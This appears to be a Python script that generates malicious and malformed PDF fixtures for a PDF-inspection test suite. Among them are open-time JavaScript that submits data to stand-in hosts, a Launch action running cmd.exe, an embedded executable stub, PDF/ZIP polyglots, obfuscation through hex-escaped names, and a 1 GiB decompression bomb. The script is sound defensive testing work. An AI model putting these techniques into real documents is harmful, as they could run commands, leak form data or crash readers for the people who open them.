#!/usr/bin/env python3
"""Makes the PDF fixtures of IndigatePDFTests with real tools: qpdf (JSON input, --pages,
--encrypt, --add-attachment, --object-streams, --qdf), fix-qdf, pdftoppm (poppler-utils) and
Python's zipfile. Run from anywhere: python3 make-fixtures.py (needs qpdf and poppler-utils).
Objects are written as qpdf JSON v2 ("qpdf --json-input"), so qpdf lays out every file, its
cross-reference table and offsets; nothing here writes PDF syntax except the one hex-escaped
name, edited into a QDF file and repaired by fix-qdf."""
import base64, json, os, subprocess, tempfile, zipfile, zlib

HERE = os.path.dirname(os.path.abspath(__file__))
TMP = tempfile.mkdtemp()


def qpdf(*args):
    subprocess.run(["qpdf", *args], check=True)


def out(name):
    return os.path.join(HERE, name)


def tmp(name):
    return os.path.join(TMP, name)


def stream(data, **entries):
    return {"stream": {"dict": entries, "data": base64.b64encode(data).decode()}}


def document(catalog_extra=None, page_extra=None, extra_objects=None, preserve=False, name=None):
    """A one-page document (Helvetica text) as qpdf JSON, written to `name` by qpdf.
    Objects: 1 catalog, 2 pages, 3 page, 4 content, 5 font; extra objects from 6 on."""
    objects = {
        "obj:1 0 R": {"value": {"/Type": "/Catalog", "/Pages": "2 0 R", **(catalog_extra or {})}},
        "obj:2 0 R": {"value": {"/Type": "/Pages", "/Kids": ["3 0 R"], "/Count": 1}},
        "obj:3 0 R": {"value": {"/Type": "/Page", "/Parent": "2 0 R", "/MediaBox": [0, 0, 595, 842],
                                "/Contents": "4 0 R",
                                "/Resources": {"/Font": {"/F1": "5 0 R"}}, **(page_extra or {})}},
        "obj:4 0 R": stream(b"BT /F1 24 Tf 72 760 Td (Prikaz No 1 ot 01.09.2020) Tj ET\n"),
        "obj:5 0 R": {"value": {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Helvetica"}},
    }
    objects.update(extra_objects or {})
    size = max(int(k.split()[0][4:]) for k in objects) + 1
    objects["trailer"] = {"value": {"/Root": "1 0 R", "/Size": size}}
    header = {"jsonversion": 2, "pdfversion": "1.7", "pushedinheritedpageresources": False,
              "calledgetallpages": False, "maxobjectid": size - 1}
    path = tmp(name + ".json")
    with open(path, "w") as f:
        json.dump({"qpdf": [header, objects]}, f, indent=1)
    flags = ["--preserve-unreferenced"] if preserve else []
    qpdf("--json-input", "--deterministic-id", *flags, path, out(name))


def link(action, rect=(72, 700, 300, 730)):
    return {"value": {"/Type": "/Annot", "/Subtype": "/Link", "/Rect": list(rect), "/Border": [0, 0, 0],
                      "/P": "3 0 R", "/A": action}}


# 1. A plain one-page document; 2. two pages of it, through qpdf's page selection.
document(name="plain-one-page.pdf")
qpdf("--empty", "--deterministic-id", "--pages", out("plain-one-page.pdf"), out("plain-one-page.pdf"), "--",
     out("two-pages.pdf"))

# 3. JavaScript run when the document opens.
document(name="openaction-javascript.pdf",
         catalog_extra={"/OpenAction": {"/S": "/JavaScript", "/JS": "u:app.alert('Откройте вложение');"}})

# 4. A link that launches cmd.exe (a Launch action on a click: no /OpenAction).
document(name="launch-action.pdf", page_extra={"/Annots": ["6 0 R"]},
         extra_objects={"obj:6 0 R": link({"/S": "/Launch", "/F": "u:cmd.exe",
                                           "/Win": {"/F": "u:cmd.exe", "/P": "u:/c calc.exe"}})})

# 5. An attached Windows executable (a 1 KB MZ stub, not a working program), by qpdf --add-attachment.
exe = tmp("scan-viewer.exe")
with open(exe, "wb") as f:
    f.write(b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + b"This program cannot be run in DOS mode.\r\n"
            + bytes(1024 - 112))
os.utime(exe, (1598918400, 1598918400))  # 2020-09-01: the ZIP below takes the file's date
qpdf("--deterministic-id", out("plain-one-page.pdf"), "--add-attachment", exe,
     "--mimetype=application/vnd.microsoft.portable-executable",
     "--creationdate=D:20200901000000Z", "--moddate=D:20200901000000Z", "--", out("embedded-exe.pdf"))

# 6. PDF/ZIP polyglots: the plain PDF with a ZIP carrying the .exe appended (`cat a.pdf b.zip`).
# Deflated, the ZIP is small enough (< 1 KB) for qpdf to find startxref and read the PDF cleanly;
# stored, it pushes startxref out of the last kilobyte that qpdf searches, so qpdf recovers.
for name, method in [("pdf-zip-polyglot.pdf", zipfile.ZIP_DEFLATED), ("pdf-zip-polyglot-stored.pdf", zipfile.ZIP_STORED)]:
    zip_path = tmp(name + ".zip")
    with zipfile.ZipFile(zip_path, "w", method) as z:
        z.write(exe, "invoice.exe")
    with open(out(name), "wb") as f:
        f.write(open(out("plain-one-page.pdf"), "rb").read() + open(zip_path, "rb").read())

# 7, 8. AES-256 encryption with a user password, and with an empty one (opens without asking).
# --static-id and --static-aes-iv are qpdf's testing options; AES-256 still draws random salts,
# so these two files differ byte for byte each time they are made (and inspect the same).
for name, user in [("encrypted-user-password.pdf", "school-2020"), ("encrypted-empty-password.pdf", "")]:
    qpdf("--static-id", "--static-aes-iv", "--encrypt", user, "owner-secret", "256", "--",
         out("plain-one-page.pdf"), out(name))

# 9. Transfers that stopped. A linearized file (qpdf --linearize) cut after 900 bytes keeps its
# first-page trailer, so qpdf recovers it; the ordinary plain file cut after 400 bytes has no
# trailer left, and qpdf cannot read it at all.
qpdf("--deterministic-id", "--linearize", out("two-pages.pdf"), tmp("linearized.pdf"))
with open(out("truncated.pdf"), "wb") as f:
    f.write(open(tmp("linearized.pdf"), "rb").read()[:900])
with open(out("truncated-no-trailer.pdf"), "wb") as f:
    f.write(open(out("plain-one-page.pdf"), "rb").read()[:400])

# 10. Not a PDF: a JPEG (the plain page rendered by pdftoppm at 12 dpi) named .pdf.
subprocess.run(["pdftoppm", "-jpeg", "-r", "12", "-singlefile", out("plain-one-page.pdf"), tmp("page")], check=True)
os.replace(tmp("page.jpg"), out("not-a-pdf.pdf"))

# 11. A RichMedia (Flash) annotation with its content and settings.
document(name="richmedia.pdf", page_extra={"/Annots": ["6 0 R"]}, extra_objects={
    "obj:6 0 R": {"value": {"/Type": "/Annot", "/Subtype": "/RichMedia", "/Rect": [72, 400, 372, 600], "/P": "3 0 R",
                            "/RichMediaContent": {"/Assets": {"/Names": ["u:movie.swf", "7 0 R"]},
                                                  "/Configurations": []},
                            "/RichMediaSettings": {"/Activation": {"/Condition": "/PO"}}}},
    "obj:7 0 R": {"value": {"/Type": "/Filespec", "/F": "u:movie.swf", "/UF": "u:movie.swf"}}})

# 12. A form whose button submits its fields to a web address.
document(name="submitform.pdf", page_extra={"/Annots": ["6 0 R"]},
         catalog_extra={"/AcroForm": {"/Fields": ["6 0 R"]}},
         extra_objects={"obj:6 0 R": {"value": {
             "/Type": "/Annot", "/Subtype": "/Widget", "/FT": "/Btn", "/Ff": 65536, "/T": "u:send",
             "/Rect": [72, 600, 200, 630], "/P": "3 0 R",
             "/A": {"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "u:http://collector.invalid/form"}}}}})

# 13. Not active: an /OpenAction that only shows page 1, and a web link (/URI).
document(name="openaction-goto-and-uri.pdf", catalog_extra={"/OpenAction": ["3 0 R", "/Fit"]},
         page_extra={"/Annots": ["6 0 R"]},
         extra_objects={"obj:6 0 R": link({"/S": "/URI", "/URI": "u:https://edu.example.invalid/"})})

# 14. JavaScript at document level: the /Names /JavaScript name tree (runs at open, no /OpenAction).
document(name="names-javascript.pdf", catalog_extra={"/Names": {"/JavaScript": {"/Names": ["u:init", "6 0 R"]}}},
         extra_objects={"obj:6 0 R": {"value": {"/S": "/JavaScript", "/JS": "7 0 R"}},
                        "obj:7 0 R": stream(b"this.submitForm('http://collector.invalid/');\n")})

# 15. Page /AA: JavaScript when the page opens (/O), reached only through the page object.
document(name="page-aa-javascript.pdf",
         page_extra={"/AA": {"/O": {"/S": "/JavaScript", "/JS": "u:app.launchURL('http://x.invalid/');"}}})

# 16. The OpenAction JavaScript with its names hex-escaped (/J#61vaScript, /J#53): qpdf --qdf,
# the names edited in the QDF text, offsets repaired by fix-qdf.
qpdf("--qdf", "--static-id", out("openaction-javascript.pdf"), tmp("js.qdf"))
qdf = open(tmp("js.qdf"), "rb").read()
assert b"/S /JavaScript" in qdf and b"/JS " in qdf
qdf = qdf.replace(b"/S /JavaScript", b"/S /J#61vaScript").replace(b"/JS ", b"/J#53 ")
with open(tmp("escaped.qdf"), "wb") as f:
    f.write(qdf)
with open(out("javascript-hex-escaped-names.pdf"), "wb") as f:
    subprocess.run(["fix-qdf", tmp("escaped.qdf")], stdout=f, check=True)

# 17. The OpenAction JavaScript inside a compressed object stream.
qpdf("--deterministic-id", "--object-streams=generate", out("openaction-javascript.pdf"),
     out("javascript-in-object-stream.pdf"))

# 18. An orphan: a JavaScript action that nothing references (found only by sweeping object ids).
document(name="orphan-javascript.pdf", preserve=True,
         extra_objects={"obj:6 0 R": {"value": {"/S": "/JavaScript", "/JS": "u:app.alert(1);"}}})

# 19. A page tree whose /Kids contains itself.
document(name="page-tree-loop.pdf",
         extra_objects={"obj:2 0 R": {"value": {"/Type": "/Pages", "/Kids": ["3 0 R", "2 0 R"], "/Count": 2}}})

# 20. Bytes of another format before %PDF-: the JPEG of fixture 10, then the plain PDF.
with open(out("jpeg-before-header.pdf"), "wb") as f:
    f.write(open(out("not-a-pdf.pdf"), "rb").read() + open(out("plain-one-page.pdf"), "rb").read())

# 21. Arrays nested 5,000 deep in the font dictionary (qpdf's parser stops at 500): QDF, edited,
# fix-qdf. (Nested in the catalog instead, qpdf cannot find /Root and reads nothing.)
qpdf("--qdf", "--static-id", out("plain-one-page.pdf"), tmp("plain.qdf"))
qdf = open(tmp("plain.qdf"), "rb").read()
at = qdf.index(b"/Type /Font")
with open(tmp("deep.qdf"), "wb") as f:
    f.write(qdf[:at] + b"/Deep " + b"[" * 5000 + b"]" * 5000 + b"\n  " + qdf[at:])
with open(out("deep-nesting.pdf"), "wb") as f:
    subprocess.run(["fix-qdf", tmp("deep.qdf")], stdout=f, check=True)

# 22. A trailer claiming 2,147,483,647 objects. The trailer follows the xref table, so widening
# its /Size moves no offset that startxref or the table records.
plain = open(out("plain-one-page.pdf"), "rb").read()
trailer = plain.rindex(b"trailer")
assert plain.count(b"/Size 6", trailer) == 1
with open(out("huge-size.pdf"), "wb") as f:
    f.write(plain[:trailer] + plain[trailer:].replace(b"/Size 6", b"/Size 2147483647"))

# 23. The plain page with ten bytes of its Flate-compressed content stream flipped (as a bad
# transfer would): same length, so every offset holds; only decoding the stream finds it.
start = plain.index(b"stream\n") + len(b"stream\n")
damaged = bytearray(plain)
for i in range(start + 10, start + 20):
    damaged[i] ^= 0x55
with open(out("bad-flate-stream.pdf"), "wb") as f:
    f.write(damaged)

# 24. A decompression bomb: a 1 KB content stream, Flate inside Flate, that decodes to 1 GiB of
# spaces. --stream-data=preserve keeps qpdf from decoding it while writing the fixture.
inner = zlib.compress(b" " * (1 << 30), 9)
bomb = {"stream": {"dict": {"/Filter": ["/FlateDecode", "/FlateDecode"]},
                   "data": base64.b64encode(zlib.compress(inner, 9)).decode()}}
objects = {"obj:1 0 R": {"value": {"/Type": "/Catalog", "/Pages": "2 0 R"}},
           "obj:2 0 R": {"value": {"/Type": "/Pages", "/Kids": ["3 0 R"], "/Count": 1}},
           "obj:3 0 R": {"value": {"/Type": "/Page", "/Parent": "2 0 R", "/MediaBox": [0, 0, 595, 842],
                                   "/Contents": "4 0 R"}},
           "obj:4 0 R": bomb, "trailer": {"value": {"/Root": "1 0 R", "/Size": 5}}}
with open(tmp("bomb.json"), "w") as f:
    json.dump({"qpdf": [{"jsonversion": 2, "pdfversion": "1.7", "pushedinheritedpageresources": False,
                         "calledgetallpages": False, "maxobjectid": 4}, objects]}, f)
qpdf("--json-input", "--deterministic-id", "--stream-data=preserve", tmp("bomb.json"), out("decompression-bomb.pdf"))

# 25. A stray ")" in the page dictionary (QDF, edited, fix-qdf): qpdf warns while walking the
# page tree, and still counts the page.
page = qdf.index(b"/Type /Page\n")
with open(tmp("token.qdf"), "wb") as f:
    f.write(qdf[:page] + b") " + qdf[page:])
with open(out("bad-token-in-page.pdf"), "wb") as f:
    subprocess.run(["fix-qdf", tmp("token.qdf")], stdout=f, check=True)

# 26. An object nothing refers to, whose cross-reference entry gives it generation 251 instead
# of 0 (a byte edit inside the xref table: no offset moves). Only resolving every object the
# table lists finds it; qpdf then rebuilds the table.
document(extra_objects={"obj:6 0 R": {"value": {"/Type": "/Note", "/Text": "u:unreferenced"}}}, preserve=True,
         name="xref-wrong-generation.pdf")
with open(out("xref-wrong-generation.pdf"), "rb") as f:
    data = f.read()
xref = data.index(b"\nxref\n")
entry = xref + len(b"\nxref\n0 7\n") + 6 * 20  # the seventh 20-byte entry: object 6
assert data[entry + 10:entry + 18] == b" 00000 n", data[entry:entry + 20]
with open(out("xref-wrong-generation.pdf"), "wb") as f:
    f.write(data[:entry + 11] + b"00251" + data[entry + 16:])
